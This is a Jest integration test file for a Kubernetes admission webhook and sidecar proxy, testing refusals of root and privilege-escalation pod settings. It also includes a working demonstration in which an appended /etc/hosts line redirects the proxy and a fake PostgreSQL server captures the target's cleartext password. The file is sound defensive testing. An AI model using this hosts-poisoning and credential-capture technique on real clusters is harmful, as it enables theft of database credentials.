// Round 10: adversarial review of the install surface and pod-level bypasses, through the real path:
// kubectl against the harness kube-apiserver, which calls the webhook process (set up as in
// round9b-attacks.int). Report: docs/security-model.md, "Round 10 review: root next to the proxy".
//
// Fixed (round 10 fix, webhook/src/run-as-non-root.ts): the injector sets runAsNonRoot: true and
// allowPrivilegeEscalation: false on every other container where it and the pod leave them unset,
// and the guard refuses whatever still lets a container be or become root; the tests below were
// tightened to that design (the image-user and setuid cases now assert what the injector writes,
// and every explicit way back to root, pod level included, must be refused naming /etc/hosts).
//
// Finding A (FAILED on the code before the fix): the pod's name resolution is the proxy's, at run time.
// The kubelet bind-mounts ONE file, /var/lib/kubelet/pods/<uid>/etc-hosts, read-write into every
// container of the pod (pkg/kubelet/kubelet_pods.go makeHostsMount: `ReadOnly: false`, whatever
// readOnlyRootFilesystem says; kubernetes/kubernetes#91981, closed unfixed), written 0644 and owned
// by root. The CRI runtime does the same for the sandbox's resolv.conf (containerd: read-only only
// when the container's root filesystem is). So an agent container running as uid 0 (the default of
// most images, postgres:17-alpine's included) writes `<address> orders-db.orders-data.svc.cluster.local`
// into /etc/hosts, or its own `nameserver`, and guarita-proxy, whose getaddrinfo (Node's dns.lookup)
// reads the same file on every lookup, connects to that address. The proxy refuses only the pod's
// own addresses and loopback (sidecar/src/upstream-address.ts), so an address of another pod the agent
// controls (or any outside host) passes, and the PostgreSQL upstream answers an
// AuthenticationCleartextPassword request with the target's password (sidecar/src/postgres/upstream.ts),
// an http target sends its credential headers. This is round 7/9's class (hostAliases,
// dnsConfig.nameservers, the pod's own hostname), which the webhook closes for what the pod SPEC
// says, reopened by a write to the file itself, which needs nothing but uid 0 in an agent container.
// The webhook admits a governed pod whose agent container runs as root, and a debug container that
// does (the same mounts), so the tests below, which expect a refusal, fail.
//
// No kubelet runs in the harness: the file's mode and sharing are the kubelet's code, cited above;
// what is demonstrated here is that the webhook admits the pods that can write it (the failing
// tests), and, as the premise (a passing test, skipped where `unshare -m` is not allowed), that the
// sidecar's own PostgreSQL upstream code, with GUARITA_POD_IPS set as in a pod, follows a line
// appended to the /etc/hosts it resolves with and sends the target's password in clear to that
// address: a private mount namespace bind-mounts a copy over /etc/hosts for one child process, the
// machine's file is not touched.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Container, Pod } from '../src/kube-types.ts';
import { applyJson, createNamespace, installCrds, k, kFails, registerWebhooks, startWebhookProcess, suffix, unregisterWebhooks, webhookIdentity, type WebhookProcess } from './cluster.ts';
import { examplePod, examplePolicy, exampleYaml } from './fixtures.ts';
import { loadHarnessState } from '../../e2e/harness/state.ts';

const id = suffix();
const system = `guarita-system-${id}`;
const configuration = `guarita-webhook-r10-${id}`;
const scope = { 'guarita.io/test-scope': id };
const ns = `r10-${id}`;
let webhook: WebhookProcess;

const denied = 'admission webhook "validate.pods.guarita.io" denied the request';
const deniedDebug = 'denied the request';

function proxyOf(pod: Pod): Container | undefined {
  return [...(pod.spec.initContainers ?? []), ...pod.spec.containers].find((c) => c.name === 'guarita-proxy');
}

async function createPod(pod: Pod): Promise<string | undefined> {
  return k(['create', '-f', '-'], 'admin', JSON.stringify(pod)).then(() => undefined, (err: unknown) => String(err));
}

async function getPod(name: string): Promise<Pod | undefined> {
  return k(['-n', ns, 'get', 'pod', name, '-o', 'json']).then((out) => JSON.parse(out) as Pod, () => undefined);
}

/** The example agent (selected by AccessPolicy orders-db), its container running as root. */
function rootAgent(name: string, securityContext: Record<string, unknown> | undefined): Pod {
  const pod = examplePod(ns, name);
  const agent = pod.spec.containers[0] as Container;
  if (securityContext === undefined) delete agent.securityContext;
  else agent.securityContext = securityContext;
  return pod;
}

beforeAll(async () => {
  await installCrds();
  await createNamespace(system, {});
  const kubeconfig = await webhookIdentity(system, configuration, 'guarita-webhook-tls', loadHarnessState().runDir);
  webhook = await startWebhookProcess({ namespace: system, configurationName: configuration, kubeconfig });
  await registerWebhooks(configuration, system, webhook.url, scope);
  await createNamespace(ns, { 'guarita.io/injection': 'enabled', ...scope });
  const secret = exampleYaml('orders-db-credentials.yaml') as { metadata: { namespace: string } };
  secret.metadata.namespace = ns;
  await applyJson(secret);
  await applyJson(examplePolicy('accesspolicy.yaml', ns));
  // A governed pod as the example writes it (non-root agent): the target of the debug container below.
  await k(['create', '-f', '-'], 'admin', JSON.stringify(examplePod(ns, 'agent-1')));
}, 120_000);

afterAll(async () => {
  await unregisterWebhooks(configuration);
  await webhook?.stop();
});

describe('round 10, A: an agent container that can rewrite the /etc/hosts (and resolv.conf) the proxy resolves with', () => {
  it('the example policy\'s target is a name the proxy resolves, without TLS (what a rewritten /etc/hosts redirects)', () => {
    const policy = examplePolicy('accesspolicy.yaml', ns);
    expect(policy.spec.target.endpoint).toBe('orders-db.orders-data.svc.cluster.local:5432');
    expect((policy.spec.target as { tls?: unknown }).tls).toBeUndefined();
  });

  it('refuses a governed pod whose agent container runs as uid 0 (runAsUser: 0), which writes the shared /etc/hosts', async () => {
    const name = `root-agent-${suffix()}`;
    // NET_RAW dropped (the injector does it anyway): nothing the guard looks at today is set.
    const err = await createPod(rootAgent(name, { runAsUser: 0, capabilities: { drop: ['NET_RAW'] } }));
    const stored = await getPod(name);
    if (stored !== undefined) {
      // Admitted, with the genuine proxy next to a root agent: the proxy's name resolution is the agent's to write.
      expect(proxyOf(stored)).toBeDefined();
      expect(stored.spec.containers.find((c) => c.name === 'agent')?.securityContext).toMatchObject({ runAsUser: 0 });
    }
    expect(err).toContain(denied);
    expect(err).toContain('/etc/hosts');
  });

  // Fix (round 10): the injector sets runAsNonRoot: true and allowPrivilegeEscalation: false where the
  // container and the pod leave them unset (a root image then fails to start at the kubelet, visibly),
  // and the guard refuses whatever still lets a container be or become root.
  it('injects runAsNonRoot: true and allowPrivilegeEscalation: false into an agent container that sets no user at all (the image\'s, root for postgres:17-alpine): the kubelet refuses to start a root image', async () => {
    const name = `image-user-${suffix()}`;
    expect(await createPod(rootAgent(name, undefined))).toBeUndefined();
    const stored = await getPod(name) as Pod;
    expect(proxyOf(stored)).toBeDefined();
    expect(stored.spec.containers.find((c) => c.name === 'agent')?.securityContext).toMatchObject({ runAsNonRoot: true, allowPrivilegeEscalation: false });
  });

  it('injects allowPrivilegeEscalation: false into a non-root agent that leaves it unset (a setuid binary in the image would give root back)', async () => {
    const name = `setuid-${suffix()}`;
    expect(await createPod(rootAgent(name, { runAsNonRoot: true, runAsUser: 70 }))).toBeUndefined();
    const stored = await getPod(name) as Pod;
    expect(stored.spec.containers.find((c) => c.name === 'agent')?.securityContext).toMatchObject({ runAsNonRoot: true, runAsUser: 70, allowPrivilegeEscalation: false });
  });

  it.each([
    ['runAsNonRoot: false on the container', { runAsNonRoot: false, allowPrivilegeEscalation: false }, undefined, 'securityContext.runAsNonRoot is false'],
    ['allowPrivilegeEscalation: true', { runAsNonRoot: true, runAsUser: 70, allowPrivilegeEscalation: true }, undefined, 'allowPrivilegeEscalation is true'],
    ['runAsUser: 0 at the pod level', { allowPrivilegeEscalation: false }, { runAsUser: 0 }, 'spec.securityContext.runAsUser is 0'],
    ['runAsNonRoot: false at the pod level', { allowPrivilegeEscalation: false }, { runAsNonRoot: false }, 'spec.securityContext.runAsNonRoot is false'],
    ['DAC_OVERRIDE added to a non-root agent', { runAsNonRoot: true, runAsUser: 70, allowPrivilegeEscalation: false, capabilities: { add: ['DAC_OVERRIDE'], drop: ['NET_RAW'] } }, undefined, 'adds capabilities DAC_OVERRIDE'],
  ])('refuses a governed pod whose agent keeps a way to root: %s', async (_what, sc, podSc, field) => {
    const pod = rootAgent(`root-${suffix()}`, sc);
    if (podSc !== undefined) pod.spec.securityContext = podSc;
    const err = await createPod(pod);
    expect(err).toContain(denied);
    expect(err).toContain(field);
    expect(err).toContain('/etc/hosts');
  });

  it('refuses a debug container that drops NET_RAW but sets no user (kubectl debug --profile=baseline-like), and admits --profile=restricted', async () => {
    const debug = { name: `nouser${suffix().slice(0, 5)}`, image: 'busybox', targetContainerName: 'agent', securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } } };
    const err = await kFails(['-n', ns, 'patch', 'pod', 'agent-1', '--subresource=ephemeralcontainers', '--type=strategic', '-p', JSON.stringify({ spec: { ephemeralContainers: [debug] } })])
      .catch((e: unknown) => `admitted: ${String(e)}`);
    expect(err).toContain(deniedDebug);
    expect(err).toContain('runAsNonRoot');
    expect(err).toContain('kubectl debug --profile=restricted');
    await k(['-n', ns, 'debug', 'agent-1', '--image=busybox', '--target=agent', '--profile=restricted', '--', 'true']);
  });

  it('refuses a debug container (pods/ephemeralcontainers) running as root on a governed pod: it gets the same /etc/hosts mount', async () => {
    const debug = { name: `rootdbg${suffix().slice(0, 5)}`, image: 'busybox', targetContainerName: 'agent', securityContext: { runAsUser: 0, capabilities: { drop: ['NET_RAW'] } } };
    const err = await kFails(['-n', ns, 'patch', 'pod', 'agent-1', '--subresource=ephemeralcontainers', '--type=strategic', '-p', JSON.stringify({ spec: { ephemeralContainers: [debug] } })])
      .catch((e: unknown) => `admitted: ${String(e)}`);
    expect(err).toContain(deniedDebug);
    expect(err).toContain('/etc/hosts');
  });

  it('held: the example agent (runAsNonRoot, uid 70, allowPrivilegeEscalation false) is injected and admitted', async () => {
    const stored = await getPod('agent-1');
    expect(stored).toBeDefined();
    expect(proxyOf(stored as Pod)).toBeDefined();
  });
});

/** A non-loopback address of this machine, standing for another pod the agent controls. */
function outsideAddress(): string | undefined {
  return Object.values(networkInterfaces()).flat().find((a) => a !== undefined && a.family === 'IPv4' && !a.internal)?.address;
}

function unshareWorks(): boolean {
  return spawnSync('unshare', ['-m', '--propagation', 'private', 'true']).status === 0;
}

describe('round 10, A (premise, passes today): the proxy resolves with the /etc/hosts an agent can append to', () => {
  const run = unshareWorks() && outsideAddress() !== undefined ? it : it.skip;
  run('the sidecar\'s PostgreSQL upstream, GUARITA_POD_IPS set, sends the target\'s password to the address a line appended to /etc/hosts names', async () => {
    const address = outsideAddress() as string;
    // A fake server "in another pod": asks for a cleartext password (AuthenticationCleartextPassword) and records it.
    let captured: string | undefined;
    const server = createServer((s) => {
      let buf = Buffer.alloc(0);
      let asked = false;
      s.on('data', (d: Buffer) => {
        buf = Buffer.concat([buf, d]);
        if (!asked && buf.length >= 4 && buf.length >= buf.readInt32BE(0)) {
          asked = true;
          buf = buf.subarray(buf.readInt32BE(0));
          const r = Buffer.alloc(9);
          r.write('R');
          r.writeInt32BE(8, 1);
          r.writeInt32BE(3, 5);
          s.write(r);
        }
        if (asked && buf.length >= 5 && buf[0] === 0x70) {
          captured = buf.subarray(5, buf.readInt32BE(1)).toString('utf8').replace(/\0$/, '');
          s.destroy();
        }
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
    const port = (server.address() as AddressInfo).port;
    const dir = mkdtempSync(join(tmpdir(), 'r10-hosts-'));
    try {
      copyFileSync('/etc/hosts', join(dir, 'hosts'));
      const child = join(dir, 'child.mjs');
      writeFileSync(child, [
        `const { connectUpstream } = await import(${JSON.stringify(join(process.cwd(), 'sidecar/src/postgres/upstream.ts'))});`,
        `try { await connectUpstream({ name: 'orders-db', host: 'orders-db.orders-data.svc.cluster.local', port: ${port}, username: 'guarita_proxy', password: 'the-target-password', connectTimeoutMs: 3000 }, 'orders', {}); } catch (e) { console.log(String(e)); }`,
      ].join('\n'));
      // What the root agent does: append to the file every container of the pod shares. Then the proxy connects.
      const script = `mount --bind ${dir}/hosts /etc/hosts && echo '${address} orders-db.orders-data.svc.cluster.local' >> /etc/hosts && exec "$NODE" ${child}`;
      const res = await new Promise<{ code: number | null; out: string }>((resolve) => {
        import('node:child_process').then(({ spawn }) => {
          const p = spawn('unshare', ['-m', '--propagation', 'private', 'sh', '-c', script], { env: { ...process.env, NODE: process.execPath, GUARITA_POD_IPS: '10.244.0.99' }, cwd: process.cwd() });
          let out = '';
          p.stdout.on('data', (d: Buffer) => { out += d.toString(); });
          p.stderr.on('data', (d: Buffer) => { out += d.toString(); });
          p.on('close', (code) => resolve({ code, out }));
        }, (err: unknown) => resolve({ code: -1, out: String(err) }));
      });
      expect(res.code).toBe(0);
      expect(captured).toBe('the-target-password');
    } finally {
      server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 30_000);
});
